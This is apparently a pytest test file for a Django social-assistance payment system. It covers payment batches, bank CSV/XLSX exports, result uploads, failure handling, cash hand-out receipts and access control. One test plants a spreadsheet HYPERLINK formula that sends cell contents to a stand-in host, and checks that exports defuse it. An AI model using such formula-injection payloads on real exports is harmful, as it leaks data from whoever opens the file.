"""Payment pages: batches and payment files, result uploads and problems, failures, cash hand-out.

Each action is tested through the page as the officer would use it, and refused (403, or the sign-in
page for anonymous) for everyone outside the program's agency with nothing changed.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from bansos.cash.models import (
    Batch, CashReceipt, Entitlement, EntitlementState, PayeeAccount, Payment, PaymentStatus, ResultUpload,
)
from bansos.core.models import AuditEvent
from tests.cash.conftest import cash_state, cycle_consistent, refs, result_csv, upload

pytestmark = pytest.mark.django_db

OUTSIDERS = ["officer_other", "surveyor", "cadre", "evaluator", "resident"]


def _section(cycle) -> str:
    return reverse("cash:payments", args=[cycle.pk])


def _after(cycle) -> str:
    """Where actions send the officer back to: the cycle page at its payments section."""
    return reverse("cash:cycle_detail", args=[cycle.pk]) + "#pembayaran"


def _csv_rows(response, delimiter=";") -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=delimiter))


def _upload(client, cycle, content: bytes, name: str = "hasil.csv"):
    f = io.BytesIO(content)
    f.name = name
    return client.post(reverse("cash:result_upload", args=[cycle.pk]), {"file": f})


# --- The section and batches ----------------------------------------------------------------------------


def test_it_shows_the_section_with_the_send_button(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(3, state="approved")
    html = client_for(cast["officer"]).get(_section(cycle)).content.decode()
    assert "Buat berkas pembayaran" in html
    assert "3 penerima menunggu dikirim ke Bank DKI Cabang Kebon Jeruk." in html
    assert "Belum ada berkas pembayaran." in html


def test_the_cycle_page_carries_the_section(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(2, state="approved")
    url = reverse("cash:cycle_detail", args=[cycle.pk])
    for who in ("officer", "admin"):
        html = client_for(cast[who]).get(url).content.decode()
        assert 'id="pembayaran"' in html and "Buat berkas pembayaran" in html, who


def test_the_section_reads_a_fixed_number_of_queries(cast, client_for, cash_cycle, django_assert_max_num_queries):
    _program, _e, cycle = cash_cycle(6, state="paying")
    officer = cast["officer"]
    upload(officer, cycle, [(r, "gagal", "Rekening tutup", "", 300000) for r in refs(cycle)])
    client = client_for(officer)
    client.get(_section(cycle))  # warm caches (session, kelurahan)
    with django_assert_max_num_queries(16):
        html = client.get(_section(cycle)).content.decode()
    assert html.count('name="ids"') == 6


def test_an_officer_creates_a_batch(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(3, state="approved")
    client = client_for(cast["officer"])
    response = client.post(reverse("cash:batch_create", args=[cycle.pk]))
    assert response.status_code == 302 and response["Location"] == _after(cycle)
    batch = Batch.objects.get(cycle=cycle)
    assert (batch.number, batch.line_count, batch.total_amount, batch.created_by) == (1, 3, 900_000, cast["officer"])
    assert Entitlement.objects.filter(cycle=cycle, state=EntitlementState.SENT).count() == 3
    html = client.get(_section(cycle)).content.decode()
    assert "Berkas pembayaran 1 dibuat: 3 penerima, Rp 900.000." in html
    assert reverse("cash:batch_download_csv", args=[batch.pk]) in html
    assert reverse("cash:batch_download_xlsx", args=[batch.pk]) in html


def test_it_warns_about_recipients_without_an_account(cast, client_for, cash_cycle):
    _program, enrollments, cycle = cash_cycle(3, state="approved")
    PayeeAccount.objects.filter(household=enrollments[0].household).delete()
    client = client_for(cast["officer"])
    assert "1 penerima belum punya rekening di lembaga bayar ini" in client.get(_section(cycle)).content.decode()
    response = client.post(reverse("cash:batch_create", args=[cycle.pk]), follow=True)
    html = response.content.decode()
    assert "1 penerima belum punya rekening di Bank DKI Cabang Kebon Jeruk" in html
    assert Batch.objects.get(cycle=cycle).line_count == 2


def test_a_second_click_makes_no_second_batch(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(2, state="paying")
    before = cash_state()
    response = client_for(cast["officer"]).post(reverse("cash:batch_create", args=[cycle.pk]))
    assert response.status_code == 422
    assert "Tidak ada penerima yang menunggu dibayar dalam siklus ini." in response.content.decode()
    assert cash_state() == before


def test_a_cycle_not_approved_cannot_send(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(2, state="generated")
    client = client_for(cast["officer"])
    assert "Buat berkas pembayaran" not in client.get(_section(cycle)).content.decode()
    before = cash_state()
    response = client.post(reverse("cash:batch_create", args=[cycle.pk]))
    assert response.status_code == 422 and "Siklus belum disetujui" in response.content.decode()
    assert cash_state() == before


# --- Payment files ----------------------------------------------------------------------------------------------


def test_the_csv_file_has_the_banks_columns_and_is_audited(cast, client_for, cash_cycle):
    program, _e, cycle = cash_cycle(3, state="paying")
    batch = Batch.objects.get(cycle=cycle)
    response = client_for(cast["officer"]).get(reverse("cash:batch_download_csv", args=[batch.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="pembayaran-pelatihan-menjahit-perempuan-kepala-2026-03-b1.csv"')
    assert response["Cache-Control"] == "no-store, private"
    rows = _csv_rows(response)
    assert rows[0] == ["NO_REF", "NIK", "NAMA", "REKENING", "NOMINAL"]
    payments = list(Payment.objects.filter(batch=batch).select_related("entitlement").order_by("pk"))
    assert rows[1:] == [[p.reference, p.entitlement.recipient_nik, p.entitlement.recipient_name, p.account_number,
                         "300000"] for p in payments]
    batch.refresh_from_db()
    assert batch.downloads == 1
    event = AuditEvent.objects.get(action="cash.file.download")
    assert (event.actor, event.object_id) == (cast["officer"], str(cycle.pk))
    assert event.changes["batch"] == 1 and event.changes["format"] == "csv" and event.changes["lines"] == 3


def test_the_xlsx_file_keeps_identifiers_as_text(cast, client_for, cash_cycle):
    from openpyxl import load_workbook

    _program, _e, cycle = cash_cycle(2, state="paying")
    batch = Batch.objects.get(cycle=cycle)
    response = client_for(cast["admin"]).get(reverse("cash:batch_download_xlsx", args=[batch.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('-2026-03-b1.xlsx"')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("NO_REF", "NIK", "NAMA", "REKENING", "NOMINAL")
    first = Payment.objects.filter(batch=batch).select_related("entitlement").order_by("pk").first()
    assert rows[1] == (first.reference, first.entitlement.recipient_nik, first.entitlement.recipient_name,
                       first.account_number, 300000)
    assert sheet.title == "Maret 2026"
    event = AuditEvent.objects.get(action="cash.file.download")
    assert (event.actor, event.changes["format"]) == (cast["admin"], "xlsx")


def test_a_formula_in_a_name_is_written_as_text(cast, client_for, cash_cycle):
    from openpyxl import load_workbook

    _program, _e, cycle = cash_cycle(1, state="paying")
    hostile = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
    Entitlement.objects.filter(cycle=cycle).update(recipient_name=hostile)
    batch = Batch.objects.get(cycle=cycle)
    client = client_for(cast["officer"])
    rows = _csv_rows(client.get(reverse("cash:batch_download_csv", args=[batch.pk])))
    assert rows[1][2] == "'" + hostile
    sheet = load_workbook(io.BytesIO(b"".join(
        client.get(reverse("cash:batch_download_xlsx", args=[batch.pk])).streaming_content))).active
    cell = sheet["C2"]
    assert (cell.value, cell.data_type) == ("'" + hostile, "s")


def test_a_cash_office_file_carries_pickup_codes(cast, client_for, cash_cycle, office):
    _program, _e, cycle = cash_cycle(2, state="paying", institution=office)
    batch = Batch.objects.get(cycle=cycle)
    rows = _csv_rows(client_for(cast["officer"]).get(reverse("cash:batch_download_csv", args=[batch.pk])), ",")
    assert rows[0] == ["referensi", "nik", "nama", "kode_pengambilan", "nominal"]
    codes = list(Payment.objects.filter(batch=batch).order_by("pk").values_list("pickup_code", flat=True))
    assert [r[3] for r in rows[1:]] == codes and all(len(c) == 8 for c in codes)


# --- Result uploads ---------------------------------------------------------------------------------------------


def test_a_result_file_is_applied_and_its_problems_listed(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(3, state="paying")
    r = refs(cycle)
    content = result_csv([(r[0], "BERHASIL", "", "05/03/2026", 300000),
                          (r[1], "GAGAL", "Rekening tidak aktif", "", 300000),
                          ("DK999", "BERHASIL", "", "", 300000)])
    client = client_for(cast["officer"])
    response = _upload(client, cycle, content, "hasil-maret.csv")
    upload_row = ResultUpload.objects.get(cycle=cycle)
    assert response.status_code == 302 and response["Location"] == reverse("cash:result_detail", args=[upload_row.pk])
    assert (upload_row.paid_count, upload_row.failed_count, upload_row.problem_count) == (1, 1, 1)
    html = client.get(response["Location"]).content.decode()
    assert "hasil-maret.csv" in html and "Referensi tidak dikenal" in html and "DK999" in html
    assert "Rp 300.000" in html  # paid amount
    problems = client.get(reverse("cash:result_problems_csv", args=[upload_row.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(problems.streaming_content).decode("utf-8")[1:])))
    assert rows[0][:3] == ["baris", "referensi", "masalah"] and rows[1][:2] == ["4", "DK999"]
    assert rows[1][2].startswith("Referensi tidak dikenal; Angka kontrol referensi tidak cocok")
    assert AuditEvent.objects.filter(action="cash.result.problems.download").count() == 1
    # The failure now waits for a decision in the section.
    section = client.get(_section(cycle)).content.decode()
    assert "Gagal dibayar (1)" in section and "Rekening tidak aktif" in section
    cycle_consistent(cycle)


def test_a_file_that_is_not_a_result_file_changes_nothing(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(2, state="paying")
    before = cash_state()
    response = _upload(client_for(cast["officer"]), cycle, b"nama;alamat\nBudi;Jl. Duri\n")
    assert response.status_code == 422
    assert "Kolom wajib tidak ada" in response.content.decode()
    assert cash_state() == before


def test_the_same_file_twice_is_refused_with_a_clear_message(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(2, state="paying")
    content = result_csv([(refs(cycle)[0], "paid", "", "", 300000)])
    client = client_for(cast["officer"])
    assert _upload(client, cycle, content).status_code == 302
    before = cash_state()
    response = _upload(client, cycle, content, "salinan.csv")
    assert response.status_code == 422
    html = response.content.decode()
    assert "Berkas yang sama persis sudah diunggah pada" in html and "(hasil.csv); tidak ada yang berubah." in html
    assert cash_state() == before


def test_an_oversized_or_empty_file_is_refused_by_the_form(cast, client_for, cash_cycle, monkeypatch):
    from bansos.cash import forms_payments

    _program, _e, cycle = cash_cycle(1, state="paying")
    monkeypatch.setattr(forms_payments, "MAX_BYTES", 10 * 1024 * 1024)
    before = cash_state()
    client = client_for(cast["officer"])
    response = _upload(client, cycle, b"x" * (10 * 1024 * 1024 + 1))
    assert response.status_code == 422 and "Berkas terlalu besar (paling besar 10 MB)." in response.content.decode()
    response = _upload(client, cycle, b"")
    assert response.status_code == 422 and "Berkas kosong." in response.content.decode()
    assert cash_state() == before


def test_results_before_anything_was_sent_are_refused(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(1, state="approved")
    before = cash_state()
    response = _upload(client_for(cast["officer"]), cycle, result_csv([("DK1", "paid", "", "", 300000)]))
    assert response.status_code == 422
    assert "Belum ada pembayaran siklus ini yang dikirim" in response.content.decode()
    assert cash_state() == before


# --- Failures: retry or cancel ----------------------------------------------------------------------------------


@pytest.fixture
def failed_cycle(cast, cash_cycle):
    """A paying cycle of three whose first two payments failed (the third is still out)."""
    _program, _e, cycle = cash_cycle(3, state="paying")
    r = refs(cycle)
    upload(cast["officer"], cycle, [(r[0], "gagal", "Rekening tutup", "", 300000),
                                    (r[1], "gagal", "Nama beda", "", 300000)])
    failed = list(Entitlement.objects.filter(cycle=cycle, state=EntitlementState.FAILED).order_by("pk"))
    assert len(failed) == 2
    return cycle, failed


def _failed_action(client, cycle, **data):
    return client.post(reverse("cash:failed_action", args=[cycle.pk]), data)


def test_ticked_failures_are_sent_again_in_the_next_batch(cast, client_for, failed_cycle):
    cycle, failed = failed_cycle
    client = client_for(cast["officer"])
    response = _failed_action(client, cycle, action="retry", ids=[failed[0].pk])
    assert response.status_code == 302 and response["Location"] == _after(cycle)
    states = dict(Entitlement.objects.filter(cycle=cycle).values_list("pk", "state"))
    assert (states[failed[0].pk], states[failed[1].pk]) == (EntitlementState.DUE, EntitlementState.FAILED)
    client.post(reverse("cash:batch_create", args=[cycle.pk]))
    second = Batch.objects.get(cycle=cycle, number=2)
    assert second.line_count == 1
    assert Payment.objects.get(batch=second).entitlement_id == failed[0].pk


def test_cancelling_needs_a_reason_and_a_choice(cast, client_for, failed_cycle):
    cycle, failed = failed_cycle
    client = client_for(cast["officer"])
    before = cash_state()
    response = _failed_action(client, cycle, action="cancel", ids=[failed[0].pk], reason=" ")
    assert response.status_code == 422 and "Alasan wajib diisi." in response.content.decode()
    assert f'value="{failed[0].pk}" id="gagal-{failed[0].pk}" checked' in response.content.decode()
    response = _failed_action(client, cycle, action="retry")
    assert response.status_code == 422 and "Pilih paling sedikit satu penerima" in response.content.decode()
    assert cash_state() == before
    response = _failed_action(client, cycle, action="cancel", ids=[failed[1].pk], reason="Penerima pindah")
    assert response.status_code == 302
    e = Entitlement.objects.get(pk=failed[1].pk)
    assert (e.state, e.cancel_reason) == (EntitlementState.CANCELLED, "Penerima pindah")
    cycle_consistent(cycle)


def test_cancelling_all_failures_leaves_waiting_ones_alone(cast, client_for, failed_cycle):
    cycle, failed = failed_cycle
    client = client_for(cast["officer"])
    _failed_action(client, cycle, action="retry", ids=[failed[0].pk])  # now due, waiting for batch 2
    response = _failed_action(client, cycle, action="cancel", everything="on", reason="Data ganda")
    assert response.status_code == 302
    states = dict(Entitlement.objects.filter(cycle=cycle).values_list("pk", "state"))
    assert (states[failed[0].pk], states[failed[1].pk]) == (EntitlementState.DUE, EntitlementState.CANCELLED)
    cycle_consistent(cycle)


# --- Cash hand-out ------------------------------------------------------------------------------------------------


@pytest.fixture
def office_cycle(cast, cash_cycle, office):
    _program, _e, cycle = cash_cycle(3, state="paying", institution=office)
    payments = list(Payment.objects.filter(batch__cycle=cycle).select_related("entitlement").order_by("pk"))
    return cycle, payments


def _handout(cycle, **params):
    url = reverse("cash:handout", args=[cycle.pk])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else "")


def _receipt_data(payment, **extra):
    data = {"receiver_name": payment.entitlement.recipient_name, "receiver_nik": payment.entitlement.recipient_nik,
            "identity_document": "ktp", "identity_checked": "on", "receiver_note": ""}
    data.update(extra)
    return data


def test_the_desk_finds_a_recipient_by_pickup_code_and_records_the_receipt(cast, client_for, office_cycle):
    cycle, payments = office_cycle
    p = payments[1]
    client = client_for(cast["officer"])
    html = client.get(_handout(cycle, q=p.pickup_code.lower())).content.decode()
    assert p.entitlement.recipient_name in html and "Rp 300.000" in html and "Catat penyerahan" in html
    nik = p.entitlement.recipient_nik
    assert nik not in html and f"{nik[:6]}******{nik[12:]}" in html  # officers see it masked, typed from the KTP
    response = client.post(reverse("cash:receipt_record", args=[p.pk]), _receipt_data(
        p, receiver_name="Siti Aminah", receiver_note="diambil oleh istri"))
    assert response.status_code == 302 and response["Location"] == reverse("cash:receipt_detail", args=[p.pk])
    receipt = CashReceipt.objects.get(payment=p)
    assert (receipt.receiver_name, receipt.receiver_note, receipt.handed_by) == (
        "Siti Aminah", "diambil oleh istri", cast["officer"])
    p.refresh_from_db()
    assert p.status == PaymentStatus.PAID
    html = client.get(response["Location"]).content.decode()
    assert "Tanda terima bantuan tunai" in html and "Siti Aminah" in html and "Layani penerima berikutnya" in html
    # Searching again says it was received; no second form.
    html = client.get(_handout(cycle, q=p.pickup_code)).content.decode()
    assert "Sudah diterima" in html and "Catat penyerahan" not in html
    cycle_consistent(cycle)


def test_the_admin_finds_by_nik_and_gets_it_prefilled(cast, client_for, office_cycle):
    cycle, payments = office_cycle
    p = payments[0]
    html = client_for(cast["admin"]).get(_handout(cycle, q=p.entitlement.recipient_nik)).content.decode()
    assert f'value="{p.entitlement.recipient_nik}"' in html and "Catat penyerahan" in html


def test_a_name_search_lists_the_matches(cast, client_for, office_cycle):
    cycle, payments = office_cycle
    Entitlement.objects.filter(pk=payments[0].entitlement_id).update(recipient_name="SITI RAHAYU")
    Entitlement.objects.filter(pk=payments[1].entitlement_id).update(recipient_name="SITI AMINAH")
    html = client_for(cast["officer"]).get(_handout(cycle, q="siti")).content.decode()
    assert "SITI RAHAYU" in html and "SITI AMINAH" in html and "Catat penyerahan" not in html
    assert html.count("Serahkan uang") == 2
    html = client_for(cast["officer"]).get(_handout(cycle, q="zzz")).content.decode()
    assert "Tidak ada penerima siklus ini yang cocok" in html


def test_the_receipt_needs_the_identity_check(cast, client_for, office_cycle):
    cycle, payments = office_cycle
    before = cash_state()
    response = client_for(cast["officer"]).post(reverse("cash:receipt_record", args=[payments[0].pk]),
                                                _receipt_data(payments[0], identity_checked=""))
    assert response.status_code == 422
    assert "Cocokkan identitas penerima dengan dokumennya dahulu." in response.content.decode()
    response = client_for(cast["officer"]).post(reverse("cash:receipt_record", args=[payments[0].pk]),
                                                _receipt_data(payments[0], receiver_nik="1234"))
    assert response.status_code == 422 and "NIK harus 16 angka." in response.content.decode()
    assert cash_state() == before


def test_money_is_not_handed_out_twice(cast, client_for, office_cycle):
    cycle, payments = office_cycle
    client = client_for(cast["officer"])
    url = reverse("cash:receipt_record", args=[payments[0].pk])
    assert client.post(url, _receipt_data(payments[0])).status_code == 302
    before = cash_state()
    response = client.post(url, _receipt_data(payments[0]))
    assert response.status_code == 422 and "Uang ini sudah diterima pada" in response.content.decode()
    assert cash_state() == before


def test_closing_the_hand_out_fails_the_unclaimed(cast, client_for, office_cycle):
    cycle, payments = office_cycle
    client = client_for(cast["officer"])
    client.post(reverse("cash:receipt_record", args=[payments[0].pk]), _receipt_data(payments[0]))
    batch = payments[0].batch
    before = cash_state()
    response = client.post(reverse("cash:handout_close", args=[cycle.pk]), {"batch": batch.pk, "reason": ""})
    assert response.status_code == 422 and "Alasan wajib diisi." in response.content.decode()
    assert cash_state() == before
    response = client.post(reverse("cash:handout_close", args=[cycle.pk]),
                           {"batch": batch.pk, "reason": "Batas pengambilan 31 Maret lewat"})
    assert response.status_code == 302
    assert sorted(Payment.objects.filter(batch=batch).values_list("status", flat=True)) == [
        PaymentStatus.FAILED, PaymentStatus.FAILED, PaymentStatus.PAID]
    html = client.get(_section(cycle)).content.decode()
    assert "Gagal dibayar (2)" in html and "Batas pengambilan 31 Maret lewat" in html


def test_the_hand_out_is_only_for_cash_office_cycles(cast, client_for, cash_cycle):
    _program, _e, cycle = cash_cycle(1, state="paying")
    assert client_for(cast["officer"]).get(_handout(cycle)).status_code == 404


# --- Who may --------------------------------------------------------------------------------------------------------


def _requests(cycle, payment, upload_row):
    """(method, url, data) of every page and action, against a paying cash-office cycle."""
    batch = payment.batch
    return [
        ("get", reverse("cash:payments", args=[cycle.pk]), None),
        ("post", reverse("cash:batch_create", args=[cycle.pk]), {}),
        ("get", reverse("cash:batch_download_csv", args=[batch.pk]), None),
        ("get", reverse("cash:batch_download_xlsx", args=[batch.pk]), None),
        ("post", reverse("cash:result_upload", args=[cycle.pk]), "file"),
        ("get", reverse("cash:result_detail", args=[upload_row.pk]), None),
        ("get", reverse("cash:result_problems_csv", args=[upload_row.pk]), None),
        ("post", reverse("cash:failed_action", args=[cycle.pk]), {"action": "retry", "everything": "on"}),
        ("get", reverse("cash:handout", args=[cycle.pk]) + f"?q={payment.pickup_code}", None),
        ("post", reverse("cash:receipt_record", args=[payment.pk]), _receipt_data(payment)),
        ("post", reverse("cash:handout_close", args=[cycle.pk]), {"batch": batch.pk, "reason": "Selesai"}),
        ("get", reverse("cash:receipt_detail", args=[payment.pk]), None),
    ]


@pytest.fixture
def guarded(cast, office_cycle):
    cycle, payments = office_cycle
    upload_row = upload(cast["officer"], cycle, [(payments[2].reference, "gagal", "Tidak datang", "", 300000),
                                                 ("DK1", "paid", "", "", 1)])
    return cycle, payments[0], upload_row


def _send(client, method, url, data, cycle):
    if data == "file":
        f = io.BytesIO(result_csv([("DK2", "paid", "", "", 300000)]))  # a problem line only: nothing paid
        f.name = "hasil.csv"
        data = {"file": f}
    return client.get(url) if method == "get" else client.post(url, data)


@pytest.mark.parametrize("who", OUTSIDERS + [None])
def test_everyone_outside_the_agency_is_refused_with_nothing_changed(who, cast, client_for, guarded):
    cycle, payment, upload_row = guarded
    client = client_for(cast[who] if who else None)
    before = cash_state()
    for method, url, data in _requests(cycle, payment, upload_row):
        response = _send(client, method, url, data, cycle)
        if who is None:
            assert response.status_code == 302 and response["Location"].startswith(reverse("accounts:login")), url
        else:
            assert response.status_code == 403, url
    assert cash_state() == before


@pytest.mark.parametrize("who", ["officer", "admin"])
def test_the_agencys_officer_and_the_admin_may(who, cast, client_for, guarded):
    cycle, payment, upload_row = guarded
    client = client_for(cast[who])
    statuses = [_send(client, method, url, data, cycle).status_code
                for method, url, data in _requests(cycle, payment, upload_row)]
    # batch_create: nothing due (422); the receipt is shown once recorded (last request).
    assert statuses == [200, 422, 200, 200, 302, 200, 200, 302, 200, 302, 302, 200]
